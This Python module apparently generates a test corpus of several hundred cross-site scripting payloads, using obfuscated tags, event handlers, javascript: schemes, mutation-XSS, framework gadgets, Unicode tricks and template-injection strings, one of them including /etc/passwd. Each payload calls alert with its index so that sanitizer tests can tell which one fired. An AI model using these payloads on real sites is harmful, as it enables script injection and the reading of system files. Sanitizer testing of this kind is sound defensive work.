"""More than five hundred ways to smuggle a script into a text, made by combining known vectors.

Each calls `alert` with its own place in the list when it runs, so that a test can say which did.
"""

from __future__ import annotations

import base64
from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

RUN = "alert(«n»)"
BREAK_OUT = "\"'></title></textarea></script><img src=x onerror=alert(«n»)>"

TAGS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus"),
    *("iframe", "marquee", "object data=x", "embed src=x", "select autofocus", "a href=#", "p"),
    *("textarea autofocus", "math", "form", "button autofocus", "dialog open", "frameset", "div"),
    *(
        "table",
        "li tabindex=0 autofocus",
        "span style=animation-name:x",
        "source src=x",
        "custom-a",
    ),
)
HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin"),
    *("onanimationstart", "onpointerenter", "onpageshow"),
)
SPELLINGS = (
    "<IMG SRC=x ONERROR=«run»>",
    "<img/src=x/onerror=«run»>",
    "<img\tsrc=x\tonerror=«run»>",
    "<img\fsrc=x\fonerror=«run»>",
    "<img src=x onerror\n=\n«run»>",
    '<img src=x onerror="«run»"',
    "<img src=x onerror=«run»//",
    "<img src=x onerror='«run»'",
    "<<img src=x onerror=«run»>",
    "<img src=x onerror=&#97;lert(«n»)>",
    "<img src=x onerror=&#x61;lert(«n»)>",
    "<img src=x onerror=&#0000097lert(«n»)>",
    "<img src=x onerror=\\u0061lert(«n»)>",
    "<img src=x onerror=window['al'+'ert'](«n»)>",
    "<img src=x onerror=alert`«n»`>",
    "<img src=x onerror=javascript:«run»>",
    '<img """><script>«run»</script>">',
    "<img src=x:x onerror=«run» x",
    "<img src=`x` onerror=`«run»`>",
    "<img srcset=x onerror=«run»>",
    "<image src=x onerror=«run»>",
    "<picture><source srcset=x><img onerror=«run»></picture>",
    "<script>«run»</script>",
    "<script >«run»</script >",
    "<SCRIPT>«run»</SCRIPT>",
    "<script/x>«run»</script>",
    "<scr<script>ipt>«run»</scr</script>ipt>",
    "<script src=data:,«run»></script>",
    "<script type=module>«run»</script>",
    "<script\n>«run»</script\n>",
    "<svg onload=«run»>",
    "<svg/onload=«run»>",
    "<svg><script>«run»</script></svg>",
    "<svg><script>&#97;lert(«n»)</script></svg>",
    "<svg><animate onbegin=«run» attributeName=x dur=1s>",
    "<svg><set onbegin=«run» attributename=x>",
    "<svg><a xlink:href=javascript:«run»><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=«run»>#x'></svg>",
    "<svg><foreignObject><img src=x onerror=«run»></foreignObject></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:«run» /><a id=a>x</a></svg>",
    "<iframe srcdoc='<script>parent.«run»</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.«run»&gt;'></iframe>",
    "<object data='data:text/html,<script>«run»</script>'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:«run»'>",
    "<base href='javascript:«run»//'><a href=x>x</a>",
    "<link rel=import href='data:text/html,<script>«run»</script>'>",
    "<isindex action=javascript:«run» type=image>",
    "<input type=image src=x onerror=«run»>",
    "<video poster=javascript:«run»//></video>",
    "<body background=javascript:«run»>",
    "<table background=javascript:«run»><td>x",
    "<x onclick=«run» tabindex=1 autofocus>x</x>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=«run»>x",
    "<p style='background:url(javascript:«run»)'>x",
    "<p style='width:expression(«run»)'>x",
    "<style>@import 'javascript:«run»';</style>",
    "<link rel=stylesheet href=javascript:«run»>",
    "<bgsound src=javascript:«run»>",
)
SCHEMES = ("javascript:«run»", "vbscript:«run»", "data:text/html,<script>«run»</script>")
CARRIERS = (
    "<a href='{}'>x</a>",
    "[x](<{}>)",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button autofocus>x</button></form>",
    "<button formaction='{}'>x</button>",
    "<svg><a xlink:href='{}'>x</a></svg>",
    "<img src='{}'>",
)
LEAVINGS = (
    *(
        '">',
        "'>",
        "`>",
        "-->",
        "--!>",
        "]]>",
        "*/",
        "%>",
        "?>",
        "</script>",
        "</style>",
        "</title>",
    ),
    *("</textarea>", "</noscript>", "</template>", "</xmp>", "</iframe>", "</select>", "</svg>"),
    *("</math>", "</table>", "</option>", '\\">', "\n\n</code></pre>", "</p></div></main>"),
)
ARRIVALS = ("<script>«run»</script>", "<img src=x onerror=«run»>", "<svg onload=«run»>")
ATTRIBUTES = (
    '" onfocus=«run» autofocus x="',
    "' onfocus=«run» autofocus x='",
    '" onmouseover="«run»',
    "' onmouseover='«run»",
    " onfocus=«run» autofocus ",
    '" style="animation-name:x" onanimationstart="«run»',
    '" accesskey=x onclick="«run»" x="',
    '" onload="«run»" onerror="«run»',
    "javascript:«run»",
    "&quot; onfocus=«run» autofocus x=&quot;",
    "&#34;&#62;&#60;img src=x onerror=«run»&#62;",
    "%22%3E%3Cimg%20src=x%20onerror=«run»%3E",
    "&lt;img src=x onerror=«run»&gt;",
    "&amp;lt;script&amp;gt;«run»&amp;lt;/script&amp;gt;",
)
MARKDOWN = (
    "# {}", "> {}", "- {}", "1. {}", "- [x] {}", "**{}**", "_{}_", "~~{}~~", "`` ` `` {}", "    {}",
    "| a |\n|---|\n| {} |", "```{}\nx\n```", "~~~ {}\nx\n~~~", "[{}](https://e.example)",
    '[x](https://e.example "{}")', "![{}](https://e.example/a.png)", "[x][y]\n\n[y]: /a '{}'",
    "[{}]", "<https://e.example/{}>", "https://e.example/{}", "<div>\n\n{}\n\n</div>", "\\{}",
    "<!-- x -->{}", "<!-- {} -->", "<![CDATA[{}]]>", "<?x {} ?>", "<!X {}>", "&lt;{}", "@[1]{}",
    ":tada:{}", "{}\n===", "[x](javascript:x)\n{}", "***\n{}\n***", "> - > # {}",
)  # fmt: skip
MARKDOWN_CARRIED = ("<img src=x onerror=«run»>", '"><svg onload=«run»>', "<b onclick='«run»'>x</b>")
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=«run»&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=«run»>'>",
    "<math><mi><style><img src=x onerror=«run»></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=«run»>",
    "<noscript><p title='</noscript><img src=x onerror=«run»>'>",
    "<noembed><p title='</noembed><img src=x onerror=«run»>'>",
    "<template><p title='</template><img src=x onerror=«run»>'></template>",
    "<xmp><p title='</xmp><img src=x onerror=«run»>'>",
    "<style><p title='</style><img src=x onerror=«run»>'>",
    "<title><p title='</title><img src=x onerror=«run»>'>",
    "<textarea><p title='</textarea><img src=x onerror=«run»>'>",
    "<svg><title><p title='</title><img src=x onerror=«run»>'></svg>",
    "<svg><desc><table><style><img src=x onerror=«run»></style></table></desc></svg>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=«run»></style></math>",
    "<table><td><svg><style><!--</style></td></table><img src=x onerror=«run»>-->",
    "<a title='&lt;/a&gt;&lt;img src=x onerror=«run»&gt;' href=/x>x</a>",
    "<p><table><p><svg><style></table><img src=x onerror=«run»>",
    "<select><template><img src=x onerror=«run»></template></select>",
    "<frameset><frame src=javascript:«run»></frameset>",
    "<details><summary><svg><script>«run»</script></summary></details>",
    "<ruby><rt><math><rp><style></rp><img src=x onerror=«run»>",
    "<plaintext><img src=x onerror=«run»>",
)
GADGETS = (
    '<div hx-get="javascript:«run»" hx-trigger="load">x</div>',
    '<div hx-on:htmx:load="«run»">x</div>',
    '<div hx-on::load="«run»">x</div>',
    '<div data-hx-get="/x" data-hx-trigger="load" data-hx-on:click="«run»">x</div>',
    '<div hx-vals="js:{a:«run»}" hx-trigger="load" hx-post="/x">x</div>',
    '<div _="init «run»">x</div>',
    '<div x-data x-init="«run»">x</div>',
    '<div v-on:click="«run»" @click="«run»">x</div>',
    '<div ng-app ng-init="«run»">x</div>',
    '<div data-editor="«run»" data-live="«run»" data-mention="1">x</div>',
    "<img name=body><form id=htmx><input name=config>",
    "<a id=currentScript href=javascript:«run»>x</a>",
    "<form name=attributes id=x><input name=nodeName>",
    "<div id=main autofocus tabindex=0 onfocus=«run»>x</div>",
    "<meta name=csrf-token content='\"><script>«run»</script>'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><script>«run»</script>",
    "<link rel=prefetch href=/account/leave/>",
    '<script type=application/json>{"a": "</script><script>«run»</script>"}</script>',
    '<script type=importmap>{"imports":{"x":"data:text/javascript,«run»"}}</script>',
    "<slot onslotchange=«run»><template shadowrootmode=open><img src=x onerror=«run»></template>",
    "<portal src=javascript:«run»>",
    "<div popover id=p onbeforetoggle=«run»>x</div><button popovertarget=p autofocus>x</button>",
)
SIGNS = (
    "＜script＞«run»＜/script＞",
    "‹script›«run»‹/script›",
    "<ſcript>«run»</ſcript>",
    "<ſvg onload=«run»>",
    "<İmg src=x onerror=«run»>",
    "<s\u200bcript>«run»</s\u200bcript>",
    "<scr\u00adipt>«run»</scr\u00adipt>",
    "<\u2028script>«run»</script>",
    "<img\u3000src=x\u3000onerror=«run»>",
    "<img\u00a0src=x\u00a0onerror=«run»>",
    "\u202e<img src=x onerror=«run»>\u202c",
    "\ufeff<img src=x onerror=«run»>",
    "\ue0001\ue001<img src=x onerror=«run»>",
    "<img src=x onerror\u200b=«run»>",
    "[x](java\u200bscript:«run»)",
    "[x](javascript：«run»)",
    "[x](ｊａｖａｓｃｒｉｐｔ:«run»)",
    "<a href='\u2028javascript:«run»'>x</a>",
    "<a href='\x01javascript:«run»'>x</a>",
    "<a href='\ufeffjavascript:«run»'>x</a>",
    "+ADw-script+AD4-«run»+ADw-/script+AD4-",
    "\\x3cscript\\x3e«run»\\x3c/script\\x3e",
    "\\u003cscript\\u003e«run»\\u003c/script\\u003e",
    "中文<img src=x onerror=«run»>中文",
    "名单\u0301<svg onload=«run»>",
)
INJECTIONS = (
    "{{ 7*7 }}<img src=x onerror=«run»>",
    "{{ ''.__class__.__mro__ }}",
    "{{ constructor.constructor('«run»')() }}",
    "{% include '/etc/passwd' %}",
    "{# #}<script>«run»</script>",
    "${«run»}",
    "#{«run»}",
    "<%= «run» %>",
    "%(name)s%(n)d%s%n",
    "{0.__class__}{name}",
    "';«run»//",
    '";«run»//',
    '\\";«run»//',
    "\\';«run»//",
    "'-«run»-'",
    '"-«run»-"',
    "`-«run»-`",
    "*/«run»/*",
    "\n«run»\n",
    "\u2028«run»\u2028",
    "</script><!--<script>«run»//-->",
    "<!--<script>",
    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=«run»>\"}}",
    "&sol;&gt;&lt;svg onload=«run»&gt;",
)  # fmt: skip


def _disguised(address: str) -> Iterator[str]:
    """One address as browsers of some age have read it all the same."""
    scheme, _colon, rest = address.partition(":")
    half = len(scheme) // 2
    yield address
    yield f"{scheme.title().swapcase()}:{rest}"
    yield f"{scheme[:half]}\t{scheme[half:]}:{rest}"
    yield f"{scheme[:half]}&Tab;{scheme[half:]}&colon;{rest}"
    yield f"{scheme[:half]}&NewLine;{scheme[half:]}:{rest}"
    yield f"&#{ord(scheme[0])};{scheme[1:]}:{rest}"
    yield f"&#x{ord(scheme[0]):x};{scheme[1:]}&#58;{rest}"
    yield f" \x0b{scheme}:{rest}"
    yield f"{scheme}%3A{rest}"


def _templates() -> Iterable[str]:
    yield from (f"<{tag} {handler}={RUN}>x" for tag, handler in product(TAGS, HANDLERS))
    yield from SPELLINGS
    for scheme, carrier in product(SCHEMES, CARRIERS):
        yield from (carrier.replace("{}", address) for address in _disguised(scheme))
    yield from (f"x{leaving}{arrival}" for leaving, arrival in product(LEAVINGS, ARRIVALS))
    yield from ATTRIBUTES
    for form, carried in product(MARKDOWN, MARKDOWN_CARRIED):
        yield form.replace("{}", carried)
    yield from (*MUTATIONS, *GADGETS, *SIGNS, *INJECTIONS, BREAK_OUT)
    hidden = base64.b64encode(b"<script>parent.alert()</script>").decode()
    yield from (carrier.replace("{}", f"data:text/html;base64,{hidden}") for carrier in CARRIERS)


def corpus() -> list[str]:
    """All of them, each with its own number in its call."""
    texts = dict.fromkeys(template.replace("«run»", RUN) for template in _templates())
    return [text.replace("«n»", str(number)) for number, text in enumerate(texts)]


def leaving() -> list[str]:
    """Those that first close whatever the text may stand in; the short list for single fields."""
    mark = f"x{LEAVINGS[0]}"
    first = next(number for number, text in enumerate(corpus()) if text.startswith(mark))
    return corpus()[first : first + len(LEAVINGS) * len(ARRIVALS) + len(ATTRIBUTES)]


def packed(texts: Iterable[str], most: int, glue: str = " ") -> list[str]:
    """As few texts as hold them all, none longer than `most`; what is longer alone is left out."""
    packs: list[str] = []
    for text in texts:
        if len(text) > most:
            continue
        if packs and len(packs[-1]) + len(glue) + len(text) <= most:
            packs[-1] += glue + text
        else:
            packs.append(text)
    return packs


APART = "\n\n</script></style></textarea></title></xmp></noscript></template>-->]]>\n\n"
"""Between two texts of one body: what an unclosed element of the first would swallow ends here."""
